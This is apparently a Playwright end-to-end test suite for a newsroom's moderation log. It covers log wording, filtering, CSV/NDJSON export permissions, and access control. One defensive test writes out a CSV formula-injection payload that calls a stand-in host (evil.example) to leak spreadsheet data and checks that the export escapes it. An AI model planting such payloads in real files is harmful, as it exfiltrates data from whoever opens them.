import { expect, test } from './fixtures'
import {
  givenArticle,
  givenComment,
  givenDecision,
  givenPublished,
  givenReader,
  oneOfAKind,
} from './newsroom'
import { findInQueue, problem } from './steps'

test('what a moderator decided stands in the log as a sentence that leads to all it names', async ({
  signedIn,
}) => {
  const [article, author] = [await givenArticle(), await givenReader()]
  const { id } = await givenComment(author, article)
  const { page, reader: moderator } = await signedIn('moderator')
  const item = await findInQueue(page, author)
  await item.getByLabel('A word to the author').fill('Say it again without the names.')
  await item.getByRole('button', { name: 'Reject' }).click()
  await page.getByRole('link', { name: 'Log', exact: true }).click()
  const entry = page.getByRole('listitem').filter({ hasText: author.name })
  await expect(entry).toContainText(
    `${moderator.name} rejected a comment by ${author.name} under “${article.headline}”`,
  )
  await expect(entry).toContainText('Note: Say it again without the names.')
  await expect(entry.getByRole('link', { name: article.headline })).toHaveAttribute('href', article.path)
  await entry.getByRole('link', { name: author.name }).click()
  await expect(entry).toHaveCount(1)
  await entry.getByRole('link', { name: 'a comment' }).click()
  await expect(page).toHaveURL(`/admin/comments/${id}`)
})

test('the log is filtered by a form, and says when nothing is found or something cannot be looked for', async ({
  signedIn,
}) => {
  const [article, author] = [await givenArticle(), await givenReader()]
  const { id } = await givenPublished(author, article)
  const { page } = await signedIn('moderator')
  await page.goto(`/admin/log?comment=${id}`)
  const entries = page.getByRole('main').getByRole('listitem')
  await expect(entries).toHaveCount(1)
  await page.getByLabel('What', { exact: true }).selectOption('Newcomer')
  await page.getByRole('button', { name: 'Show' }).click()
  await expect(entries).toContainText(
    `Newcomer: a comment by ${author.name} under “${article.headline}” was held`,
  )
  await page.getByLabel('What', { exact: true }).selectOption('Pinned')
  await page.getByRole('button', { name: 'Show' }).click()
  await expect(page.getByText('Nothing was found')).toBeVisible()
  await page.getByLabel('Comment number').fill('twelve')
  await page.getByLabel('About whom (handle)').fill('nobody-of-this-name')
  await page.getByRole('button', { name: 'Show' }).click()
  await expect(problem(page, 'The comment’s number has digits only')).toBeVisible()
  await expect(problem(page, 'Nobody has the handle “nobody-of-this-name”.')).toBeVisible()
  await expect(page.getByLabel('Comment number')).toHaveValue('twelve')
  await expect(entries.filter({ hasText: 'under' })).toHaveCount(0)
})

test('an editor exports what the filter finds; a moderator reads all of it and exports nothing', async ({
  signedIn,
}) => {
  const [article, author] = [
    await givenArticle(),
    await givenReader('reader', { name: `Ana ${oneOfAKind()}` }),
  ]
  const { id } = await givenComment(author, article)
  await givenDecision(id, 'spam')
  const [editor, moderator, reader] = [
    await signedIn('editor'),
    await signedIn('moderator'),
    await signedIn(),
  ]
  await editor.page.goto(`/admin/log?comment=${id}`)
  await expect(editor.page.getByRole('link', { name: 'CSV', exact: true })).toHaveAttribute(
    'href',
    `/api/admin/log?comment=${id}&format=csv`,
  )
  const csv = await editor.request.get(`/api/admin/log?comment=${id}&format=csv`)
  expect(csv.headers()['content-type']).toBe('text/csv; charset=utf-8; header=present')
  expect(csv.headers()['content-disposition']).toMatch(/^attachment; filename="log-\d{4}-\d\d-\d\d\.csv"$/)
  expect(csv.headers()['cache-control']).toBe('private, no-store')
  const [head, line, ...rest] = (await csv.text()).split('\r\n')
  expect(head).toContain('"source","id","at","by","kind","about"')
  expect(line).toContain(`"rejected","${author.name}"`)
  expect(rest).toEqual([''])
  const lines = await (await editor.request.get(`/api/admin/log?comment=${id}&format=ndjson`)).text()
  expect(JSON.parse(lines)).toMatchObject({
    kind: 'rejected',
    comment: id,
    article: article.id,
    reason: 'spam',
  })

  await moderator.page.goto(`/admin/log?comment=${id}`)
  await expect(moderator.page.getByRole('main').getByRole('listitem')).toHaveCount(1)
  await expect(moderator.page.getByRole('link', { name: 'CSV', exact: true })).toHaveCount(0)
  for (const { request } of [moderator, reader])
    expect((await request.get('/api/admin/log?format=csv')).status()).toBe(403)
  for (const wrong of ['', '?format=xml', '?format=csv&comment=x', '?format=csv&comment=1&comment=2'])
    expect([wrong, (await editor.request.get(`/api/admin/log${wrong}`)).status()]).toEqual([wrong, 422])
})

test('attack: a name and a note that are formulas come out of the export as text', async ({ signedIn }) => {
  const [article, author] = [await givenArticle(), await givenReader()]
  const { id } = await givenComment(author, article)
  const { request } = await signedIn('editor')
  const { page } = await signedIn('moderator')
  const item = await findInQueue(page, author)
  await item.getByLabel('A word to the author').fill(`=HYPERLINK("https://evil.example/?"&A1)`)
  await item.getByRole('button', { name: 'Reject' }).click()
  await expect(page.getByRole('status')).toContainText('Rejected')
  const csv = await (await request.get(`/api/admin/log?comment=${id}&format=csv`)).text()
  expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1)"`)
})

test('attack A32: the log is there for the newsroom alone, whatever the address looks like', async ({
  page,
  signedIn,
}) => {
  const reader = await signedIn()
  for (const address of ['/admin/log', '/admin/log/', '/admin//log']) {
    const answer = await reader.request.get(address)
    expect([address, answer.status()]).toEqual([address, 404])
    expect(await answer.text()).not.toContain('Comment number')
  }
  await page.goto('/admin/log')
  await expect(page).toHaveURL('/sign-in?next=%2Fadmin%2Flog')
})
